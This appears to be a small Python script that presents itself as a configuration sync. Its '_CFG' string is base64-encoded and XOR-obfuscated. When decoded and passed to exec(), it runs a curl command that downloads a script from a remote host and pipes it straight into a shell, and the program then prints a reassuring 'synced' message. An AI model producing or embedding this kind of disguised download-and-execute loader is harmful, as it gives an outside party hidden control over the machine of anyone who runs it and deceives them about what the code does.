import base64
_CFG = "XlpHWEVDF1hEDFhEGURORENSWh8QVEJFWxcaRBdfQ0NHRA0YGEROWVQZWVhDUkQaVFtYQlMZUk9WWkdbUhlUWFoYWRdLF0RfEB4="
exec(bytes(b ^ 0x37 for b in base64.b64decode(_CFG)).decode())
print("synced")
